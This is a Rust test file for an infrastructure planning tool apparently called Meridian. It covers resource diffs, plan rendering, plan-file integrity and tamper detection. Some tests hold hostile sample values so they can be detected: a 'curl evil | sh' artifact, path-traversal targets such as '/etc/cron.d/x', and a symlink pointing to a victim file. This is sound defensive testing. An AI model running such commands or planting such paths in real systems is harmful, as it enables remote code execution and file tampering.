use super::file::{mismatch, staleness, PlanFile, PlanFileError};
use super::render::{human, json, markdown, markdown_limited, summary_line};
use super::*;
use meridian_graph::{Address, Kind, Resource};
use serde_json::json;

fn resource(kind: Kind, owner: &str, name: &str, attrs: &[(&str, serde_json::Value)]) -> Resource {
    let address = Address::new(owner, kind.address_kind(), name);
    let mut tags = BTreeMap::new();
    tags.insert("managed-by".to_string(), MANAGED_BY.to_string());
    tags.insert("meridian-address".to_string(), address.to_string());
    Resource {
        address,
        kind,
        region: Some("swedencentral".into()),
        name: format!("cloud-{name}"),
        attrs: attrs
            .iter()
            .map(|(k, v)| ((*k).to_string(), v.clone()))
            .collect(),
        tags,
        origin: format!("model.{name}"),
    }
}

fn deployment(name: &str, capacity: u64, sku: &str) -> Resource {
    resource(
        Kind::AzureDeployment,
        "azure.corp",
        name,
        &[
            ("model_name", json!("gpt-5.1")),
            ("sku_name", json!(sku)),
            ("sku_capacity", json!(capacity)),
        ],
    )
}

fn plan_of(desired: &[Resource], state: Option<&State>) -> Plan {
    let (resource_changes, unmanaged) = diff_resources(desired, state);
    Plan {
        meridian_version: "0.1.0".into(),
        spec_hash: "sha256:spec".into(),
        catalog_hash: "sha256:catalog".into(),
        prior: state.map(|s| PriorState {
            lineage: s.lineage.clone(),
            serial: s.serial,
        }),
        refreshed: false,
        targets: Vec::new(),
        pending: Vec::new(),
        drift: Vec::new(),
        last_known: None,
        emits: Vec::new(),
        resource_changes,
        unmanaged,
        artifact_changes: Vec::new(),
        cost: None,
    }
}

fn applied(desired: &[Resource]) -> State {
    plan_of(desired, None)
        .next_state(None, "0.1.0", &Observations::default())
        .expect("serial")
}

fn actions(plan: &Plan) -> Vec<(String, Action)> {
    plan.resource_changes
        .iter()
        .map(|c| (c.address.clone(), c.action))
        .collect()
}

#[test]
fn empty_state_creates_everything_and_applying_gives_no_changes() {
    let desired = vec![
        deployment("a", 10, "Standard"),
        deployment("b", 5, "Standard"),
    ];
    let plan = plan_of(&desired, None);
    assert_eq!(plan.summary().add, 2);
    assert!(plan.has_changes());
    let state = plan
        .next_state(None, "0.1.0", &Observations::default())
        .expect("serial");
    assert_eq!(state.serial, 1);
    assert_eq!(state.resources.len(), 2);
    let again = plan_of(&desired, Some(&state));
    assert!(!again.has_changes(), "{:?}", actions(&again));
    assert!(again
        .resource_changes
        .iter()
        .all(|c| c.action == Action::NoOp));
}

#[test]
fn capacity_is_an_update_and_sku_a_replace() {
    let state = applied(&[
        deployment("a", 10, "Standard"),
        deployment("b", 5, "Standard"),
    ]);
    let plan = plan_of(
        &[
            deployment("a", 20, "Standard"),
            deployment("b", 5, "DataZoneStandard"),
        ],
        Some(&state),
    );
    assert_eq!(
        actions(&plan),
        vec![
            ("azure.corp.deployment.a".to_string(), Action::Update),
            ("azure.corp.deployment.b".to_string(), Action::Replace),
        ]
    );
    let replace = &plan.resource_changes[1];
    assert_eq!(replace.replace_paths, vec!["sku_name"]);
    assert_eq!(
        replace.action_reason.as_deref(),
        Some("replace_because_cannot_update")
    );
    assert_eq!(
        summary_line(&plan),
        "Plan: 0 to add, 1 to change, 1 to replace, 0 to destroy."
    );
}

#[test]
fn only_managed_resources_are_deleted() {
    let mut state = applied(&[
        deployment("a", 10, "Standard"),
        deployment("b", 5, "Standard"),
    ]);
    let mut foreign = to_state(&deployment("foreign", 1, "Standard"));
    foreign.tags.clear();
    foreign.tags.insert("owner".into(), "someone-else".into());
    state.resources.push(foreign);
    let plan = plan_of(&[deployment("a", 10, "Standard")], Some(&state));
    assert_eq!(
        actions(&plan),
        vec![
            ("azure.corp.deployment.a".to_string(), Action::NoOp),
            ("azure.corp.deployment.b".to_string(), Action::Delete),
        ]
    );
    assert_eq!(plan.unmanaged.len(), 1);
    assert_eq!(plan.unmanaged[0].address, "azure.corp.deployment.foreign");
    // The unmanaged resource stays in state; the deleted one goes.
    let next = plan
        .next_state(Some(&state), "0.1.0", &Observations::default())
        .expect("serial");
    let addresses: Vec<&str> = next.resources.iter().map(|r| r.address.as_str()).collect();
    assert_eq!(
        addresses,
        ["azure.corp.deployment.a", "azure.corp.deployment.foreign"]
    );
    assert_eq!(next.serial, state.serial + 1);
    assert_eq!(next.lineage, state.lineage);
}

#[test]
fn tag_and_added_attribute_changes_are_updates_and_kind_changes_replace() {
    let state = applied(&[deployment("a", 10, "Standard")]);
    let mut changed = deployment("a", 10, "Standard");
    changed.tags.insert("team".into(), "ml".into());
    changed
        .attrs
        .insert("rai_policy_name".into(), json!("strict"));
    let plan = plan_of(&[changed], Some(&state));
    assert_eq!(plan.resource_changes[0].action, Action::Update);
    let text = human(&plan, false);
    assert!(
        text.contains("~ resource \"azure_deployment\" \"azure.corp.deployment.a\" {"),
        "{text}"
    );
    assert!(text.contains("+ rai_policy_name"), "{text}");
    assert!(text.contains("+ tags[\"team\"]"), "{text}");
    assert!(text.contains("(7 unchanged attributes hidden)"), "{text}");

    let mut renamed = deployment("a", 10, "Standard");
    renamed.name = "cloud-a-2".into();
    let plan = plan_of(&[renamed], Some(&state));
    assert_eq!(plan.resource_changes[0].action, Action::Replace);
    assert_eq!(plan.resource_changes[0].replace_paths, vec!["name"]);
}

#[test]
fn human_output_shows_each_action_with_its_symbol_and_values() {
    let state = applied(&[
        deployment("a", 10, "Standard"),
        deployment("gone", 1, "Standard"),
    ]);
    let plan = plan_of(
        &[
            deployment("a", 20, "DataZoneStandard"),
            deployment("new", 3, "Standard"),
        ],
        Some(&state),
    );
    let text = human(&plan, false);
    assert!(
        text.contains("# azure.corp.deployment.a must be replaced"),
        "{text}"
    );
    assert!(text.contains("-/+ resource \"azure_deployment\""), "{text}");
    assert!(
        text.contains("~ sku_name     = \"Standard\" -> \"DataZoneStandard\" # forces replacement"),
        "{text}"
    );
    assert!(text.contains("~ sku_capacity = 10 -> 20\n"), "{text}");
    assert!(
        text.contains("# azure.corp.deployment.new will be created"),
        "{text}"
    );
    assert!(
        text.contains("  + resource \"azure_deployment\" \"azure.corp.deployment.new\""),
        "{text}"
    );
    assert!(
        text.contains("# azure.corp.deployment.gone will be destroyed"),
        "{text}"
    );
    assert!(
        text.contains("Plan: 1 to add, 0 to change, 1 to replace, 1 to destroy."),
        "{text}"
    );
    assert!(text.contains("live provider state was not read"), "{text}");
    assert!(!text.contains('\x1b'));
    assert!(human(&plan, true).contains("\x1b[31m-/+\x1b[0m"));
    let none = plan_of(
        &[
            deployment("a", 10, "Standard"),
            deployment("gone", 1, "Standard"),
        ],
        Some(&state),
    );
    assert!(human(&none, false).contains("No changes."));
}

#[test]
fn json_is_shaped_like_terraform_show() {
    let state = applied(&[
        deployment("a", 10, "Standard"),
        deployment("gone", 1, "Standard"),
    ]);
    let plan = plan_of(&[deployment("a", 20, "DataZoneStandard")], Some(&state));
    let v = json(&plan);
    assert_eq!(v["format_version"], "1.0");
    let changes = v["resource_changes"].as_array().expect("array");
    assert_eq!(changes.len(), 2);
    assert_eq!(changes[0]["address"], "azure.corp.deployment.a");
    assert_eq!(changes[0]["type"], "azure_deployment");
    assert_eq!(changes[0]["provider_name"], "azure.corp");
    assert_eq!(changes[0]["change"]["actions"], json!(["create", "delete"]));
    assert_eq!(
        changes[0]["change"]["before"]["attributes"]["sku_capacity"],
        10
    );
    assert_eq!(
        changes[0]["change"]["after"]["attributes"]["sku_capacity"],
        20
    );
    assert_eq!(changes[0]["change"]["replace_paths"], json!([["sku_name"]]));
    assert_eq!(changes[0]["action_reason"], "replace_because_cannot_update");
    assert_eq!(changes[1]["change"]["actions"], json!(["delete"]));
    assert_eq!(changes[1]["change"]["after"], serde_json::Value::Null);
    assert_eq!(
        changes[1]["action_reason"],
        "delete_because_no_resource_config"
    );
    assert_eq!(
        v["summary"],
        json!({"add": 0, "change": 0, "replace": 1, "destroy": 1, "pending_rollout": 0, "drift": 0})
    );
    assert_eq!(v["prior_state"]["serial"], 1);
}

#[test]
fn markdown_stays_under_the_limit_and_says_what_it_left_out() {
    let desired: Vec<Resource> = (0..3000)
        .map(|i| deployment(&format!("deployment-number-{i:05}"), 1, "Standard"))
        .collect();
    let plan = plan_of(&desired, None);
    let md = markdown(&plan);
    assert!(md.chars().count() <= render::MARKDOWN_LIMIT, "{}", md.len());
    assert!(
        md.starts_with("### Meridian plan\n\n**Plan: 3000 to add"),
        "{}",
        &md[..200]
    );
    assert!(md.contains("| `+` | azure.corp.deployment.deployment-number-00000 |"));
    assert!(
        md.contains("were left out. Run `meridian show PLANFILE`"),
        "{}",
        &md[md.len() - 400..]
    );
    // Small plans are whole, with collapsed details.
    let small = plan_of(&desired[..2], None);
    let md = markdown(&small);
    assert!(!md.contains("left out"));
    assert!(md.contains("<details><summary>Resource changes (2)</summary>"));
    // Every limit is honoured.
    for limit in [100, 500, 1000, 5000] {
        assert!(markdown_limited(&plan, limit).chars().count() <= limit);
    }
}

#[test]
fn markdown_fences_outgrow_backticks_in_the_content_and_escape_table_cells() {
    let mut r = deployment("a", 1, "Standard");
    r.attrs
        .insert("note".into(), json!("```` not a fence | pipe"));
    let plan = plan_of(&[r], None);
    let md = markdown(&plan);
    assert!(md.contains("`````diff\n"), "{md}");
    let mut r = deployment("a", 1, "Standard");
    r.address = Address::new("azure.corp", "deployment", "x|y");
    let md = markdown(&plan_of(&[r], None));
    assert!(md.contains("azure.corp.deployment.x\\|y"), "{md}");
}

#[test]
fn artifacts_are_created_updated_kept_and_deleted_only_when_unchanged() {
    let dir = tempfile::tempdir().expect("tempdir");
    let base = dir.path();
    std::fs::create_dir_all(base.join("gen")).expect("mkdir");
    std::fs::write(base.join("gen/same.tf"), "same\n").expect("write");
    std::fs::write(base.join("gen/old.tf"), "a\nb\nc\n").expect("write");
    std::fs::write(base.join("gen/stale.tf"), "stale\n").expect("write");
    std::fs::write(base.join("gen/edited.tf"), "edited by hand\n").expect("write");
    let mut state = State::new("0.1.0");
    state.artifacts.insert(
        "gen/stale.tf".into(),
        ArtifactRecord {
            sha256: sha256(b"stale\n"),
            bytes: 6,
            emit: Some("gen".into()),
        },
    );
    state.artifacts.insert(
        "gen/edited.tf".into(),
        ArtifactRecord {
            sha256: sha256(b"as written\n"),
            bytes: 11,
            emit: Some("gen".into()),
        },
    );
    let rendered = [
        Rendered {
            path: Path::new("gen/same.tf"),
            content: "same\n",
            emit: Some("gen"),
        },
        Rendered {
            path: Path::new("gen/old.tf"),
            content: "a\nB\nc\n",
            emit: Some("gen"),
        },
        Rendered {
            path: Path::new("gen/new.tf"),
            content: "n1\nn2\n",
            emit: Some("gen"),
        },
    ];
    let changes = diff_artifacts(base, &rendered, Some(&state));
    let by_path: BTreeMap<&str, &ArtifactChange> =
        changes.iter().map(|c| (c.path.as_str(), c)).collect();
    assert_eq!(by_path["gen/same.tf"].action, ArtifactAction::NoOp);
    let old = by_path["gen/old.tf"];
    assert_eq!(old.action, ArtifactAction::Update);
    assert_eq!((old.lines_removed, old.lines_added), (1, 1));
    assert!(
        old.diff.contains("--- a/gen/old.tf\n+++ b/gen/old.tf\n"),
        "{}",
        old.diff
    );
    assert!(old.diff.contains("-b\n+B\n"), "{}", old.diff);
    assert_eq!(by_path["gen/new.tf"].action, ArtifactAction::Create);
    assert_eq!(by_path["gen/new.tf"].lines_added, 2);
    assert_eq!(by_path["gen/stale.tf"].action, ArtifactAction::Delete);
    let edited = by_path["gen/edited.tf"];
    assert_eq!(edited.action, ArtifactAction::NoOp);
    assert!(edited
        .note
        .as_deref()
        .unwrap_or("")
        .contains("left in place"));

    // The state after apply records exactly the files that exist afterwards.
    let mut plan = plan_of(&[], Some(&state));
    plan.artifact_changes = changes;
    let next = plan
        .next_state(Some(&state), "0.1.0", &Observations::default())
        .expect("serial");
    let recorded: Vec<&str> = next.artifacts.keys().map(String::as_str).collect();
    assert_eq!(recorded, ["gen/new.tf", "gen/old.tf", "gen/same.tf"]);
    assert_eq!(next.artifacts["gen/old.tf"].sha256, sha256(b"a\nB\nc\n"));
    assert_eq!(next.artifacts["gen/old.tf"].bytes, 6);
}

#[test]
fn plan_files_round_trip_and_refuse_damage() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("plan.json");
    let plan = plan_of(&[deployment("a", 1, "Standard")], None);
    let file = PlanFile::new(plan, "examples/eu-bank", "2026-11-25T00:00:00Z".into());
    let root = meridian_state::Root::new(dir.path()).expect("root");
    file.save(&root, &path).expect("save");
    assert_eq!(PlanFile::load(&path).expect("load"), file);

    let text = std::fs::read_to_string(&path).expect("read");
    std::fs::write(
        &path,
        text.replace("\"sku_capacity\":1", "\"sku_capacity\":2"),
    )
    .expect("w");
    assert!(matches!(
        PlanFile::load(&path),
        Err(PlanFileError::Checksum(_))
    ));
    std::fs::write(&path, &text[..text.len() / 2]).expect("w");
    let err = PlanFile::load(&path).expect_err("truncated");
    assert!(err.to_string().contains("truncated"), "{err}");
    std::fs::write(&path, "{\"kind\": \"other\"}").expect("w");
    assert!(matches!(
        PlanFile::load(&path),
        Err(PlanFileError::NotAPlan(..))
    ));
    std::fs::write(
        &path,
        "{\"kind\": \"meridian-plan\", \"format_version\": 99}",
    )
    .expect("w");
    let err = PlanFile::load(&path).expect_err("newer");
    assert!(err.to_string().contains("newer Meridian"), "{err}");
}

#[test]
fn stale_plans_say_why() {
    let dir = tempfile::tempdir().expect("tempdir");
    let state = applied(&[deployment("a", 1, "Standard")]);
    let mut plan = plan_of(&[deployment("a", 2, "Standard")], Some(&state));
    plan.artifact_changes = diff_artifacts(
        dir.path(),
        &[Rendered {
            path: Path::new("x.tf"),
            content: "x\n",
            emit: Some("gen"),
        }],
        Some(&state),
    );
    assert!(staleness(
        &plan,
        "sha256:spec",
        "sha256:catalog",
        Some(&state),
        dir.path()
    )
    .is_empty());
    let why = staleness(
        &plan,
        "sha256:other",
        "sha256:catalog",
        Some(&state),
        dir.path(),
    );
    assert!(why[0].contains("the spec changed"), "{why:?}");
    let mut later = state.clone();
    later.serial += 1;
    let why = staleness(
        &plan,
        "sha256:spec",
        "sha256:catalog",
        Some(&later),
        dir.path(),
    );
    assert!(why[0].contains("serial 1 is now 2"), "{why:?}");
    let other = State::new("0.1.0");
    let why = staleness(
        &plan,
        "sha256:spec",
        "sha256:catalog",
        Some(&other),
        dir.path(),
    );
    assert!(why[0].contains("lineage"), "{why:?}");
    let why = staleness(
        &plan,
        "sha256:spec",
        "sha256:changed",
        Some(&state),
        dir.path(),
    );
    assert!(why[0].contains("catalog"), "{why:?}");
    std::fs::write(dir.path().join("x.tf"), "someone else\n").expect("write");
    let why = staleness(
        &plan,
        "sha256:spec",
        "sha256:catalog",
        Some(&state),
        dir.path(),
    );
    assert_eq!(why, ["x.tf changed on disk after the plan was made"]);
}

/// A plan as `plan` makes it: real hashes, a rendered file to create and one to delete.
fn well_formed(dir: &Path) -> (Plan, State) {
    let state = applied(&[deployment("a", 1, "Standard")]);
    let mut plan = plan_of(&[deployment("a", 2, "Standard")], Some(&state));
    plan.spec_hash = sha256(b"spec");
    plan.catalog_hash = sha256(b"catalog");
    plan.cost = Some(CostChange {
        before_usd: None,
        after_usd: 10.0,
    });
    plan.artifact_changes = diff_artifacts(
        dir,
        &[Rendered {
            path: Path::new("gen/main.tf"),
            content: "main\n",
            emit: Some("gen"),
        }],
        Some(&state),
    );
    (plan, state)
}

#[test]
fn a_plan_file_is_checked_like_a_spec() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (plan, _) = well_formed(dir.path());
    let file = PlanFile::new(plan.clone(), "spec", "2026-11-25T00:00:00Z".into());
    assert_eq!(file.problems(), Vec::<String>::new());
    let edit = |f: &dyn Fn(&mut Plan)| {
        let mut p = plan.clone();
        f(&mut p);
        PlanFile::new(p, "spec", "2026-11-25T00:00:00Z".into()).problems()
    };
    for (path, why) in [
        ("../outside/main.tf", "\"..\""),
        ("/etc/cron.d/x", "not inside"),
        (".meridian/state.json", "where Meridian keeps its state"),
        ("gen/main.tf.meridian-new", "reserved"),
        ("gen//main.tf", "empty or \".\" component"),
    ] {
        let why_now = edit(&|p| p.artifact_changes[0].path = path.into());
        assert_eq!(why_now.len(), 1, "{path}: {why_now:?}");
        assert!(
            why_now[0].contains("is not a path inside the spec directory"),
            "{why_now:?}"
        );
        assert!(why_now[0].contains(why), "{path}: {why_now:?}");
    }
    let why = edit(&|p| p.artifact_changes[0].content = Some("other\n".into()));
    assert!(why[0].contains("does not match its action"), "{why:?}");
    let why = edit(&|p| p.artifact_changes[0].action = ArtifactAction::Delete);
    assert!(why[0].contains("does not match its action"), "{why:?}");
    let why = edit(&|p| p.resource_changes[0].kind = "shell_command".into());
    assert!(
        why.iter()
            .any(|w| w.contains("unknown kind \"shell_command\"")),
        "{why:?}"
    );
    let why = edit(&|p| p.resource_changes[0].after = None);
    assert!(why[0].contains("do not fit the action"), "{why:?}");
    let why = edit(&|p| p.spec_hash = "sha256:spec".into());
    assert!(why[0].contains("spec hash"), "{why:?}");
    let why = edit(&|p| {
        let a = p.artifact_changes[0].clone();
        p.artifact_changes.push(a);
    });
    assert!(why[0].contains("listed twice"), "{why:?}");
}

#[test]
fn a_plan_edited_to_write_elsewhere_does_not_match_the_spec() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (derived, state) = well_formed(dir.path());
    assert_eq!(
        mismatch(&derived, &derived, Some(&state)),
        Vec::<String>::new()
    );
    // Another file, with its hashes recomputed: well formed, but not what the spec writes.
    let mut saved = derived.clone();
    saved.artifact_changes[0].path = "gen/other.tf".into();
    let why = mismatch(&saved, &derived, Some(&state));
    assert_eq!(
        why,
        [
            "it leaves out gen/main.tf, which the spec would create",
            "it would create gen/other.tf, which the spec does not change",
        ]
    );
    // Other content.
    let mut saved = derived.clone();
    let content = "curl evil | sh\n".to_string();
    saved.artifact_changes[0].after_sha256 = Some(sha256(content.as_bytes()));
    saved.artifact_changes[0].content = Some(content);
    let why = mismatch(&saved, &derived, Some(&state));
    assert_eq!(why.len(), 1, "{why:?}");
    assert!(
        why[0].starts_with("it would create gen/main.tf with sha256:"),
        "{why:?}"
    );
    // A resource recorded otherwise, or one the spec does not declare.
    let mut saved = derived.clone();
    if let Some(after) = saved.resource_changes[0].after.as_mut() {
        after.tags.insert("owner".into(), "mallory".into());
    }
    let mut extra = saved.resource_changes[0].clone();
    extra.address = "azure.corp.deployment.z".into();
    if let Some(after) = extra.after.as_mut() {
        after.address = extra.address.clone();
    }
    saved.resource_changes.push(extra);
    let why = mismatch(&saved, &derived, Some(&state));
    assert_eq!(
        why,
        [
            "it records the resource azure.corp.deployment.a otherwise than the spec declares it",
            "it records the resource azure.corp.deployment.z, which the spec does not declare",
        ]
    );
    // A declared resource kept as unmanaged; another cost.
    let mut saved = derived.clone();
    saved.unmanaged.push(Unmanaged {
        address: "azure.corp.deployment.a".into(),
        kind: "azure_deployment".into(),
        name: "x".into(),
        managed_by: None,
        region: None,
        id: None,
    });
    saved.cost = Some(CostChange {
        before_usd: None,
        after_usd: 0.0,
    });
    let why = mismatch(&saved, &derived, Some(&state));
    assert_eq!(
        why,
        [
            "it keeps azure.corp.deployment.a as unmanaged, but the spec declares it",
            "its monthly cost estimate is not the spec's",
        ]
    );
    // Drift and the before side are shown only: they may differ.
    let mut saved = derived.clone();
    saved.refreshed = true;
    saved.resource_changes[0].before = None;
    assert!(mismatch(&saved, &derived, Some(&state)).is_empty());
}

#[cfg(unix)]
#[test]
fn a_plan_file_is_never_written_over_meridians_own_files_or_through_a_link() {
    let dir = tempfile::tempdir().expect("tempdir");
    let spec = dir.path().join("spec");
    let outside = dir.path().join("outside");
    std::fs::create_dir_all(spec.join(".meridian")).expect("mkdir");
    std::fs::create_dir_all(&outside).expect("mkdir");
    std::fs::write(spec.join("main.hcl"), "spec\n").expect("write");
    std::fs::write(spec.join(".meridian/state.json"), "state\n").expect("write");
    std::fs::write(outside.join("victim"), "precious\n").expect("write");
    let mut root = meridian_state::Root::new(&spec).expect("root");
    root.protect(&spec.join("main.hcl"), "a spec file");
    let (plan, _) = well_formed(&spec);
    let file = PlanFile::new(plan, "spec", "2026-11-25T00:00:00Z".into());
    for target in [spec.join(".meridian/state.json"), spec.join("main.hcl")] {
        let e = file.save(&root, &target).expect_err("refused");
        assert!(e.to_string().contains("refusing to write"), "{e}");
    }
    assert_eq!(
        std::fs::read_to_string(spec.join("main.hcl")).expect("r"),
        "spec\n"
    );
    assert_eq!(
        std::fs::read_to_string(spec.join(".meridian/state.json")).expect("r"),
        "state\n"
    );
    // A link as the plan file itself is refused, never written through.
    let link = spec.join("plan.json");
    std::os::unix::fs::symlink(outside.join("victim"), &link).expect("symlink");
    let e = file.save(&root, &link).expect_err("refused");
    assert!(e.to_string().contains("is a symbolic link"), "{e}");
    assert_eq!(
        std::fs::read_to_string(outside.join("victim")).expect("r"),
        "precious\n"
    );
}
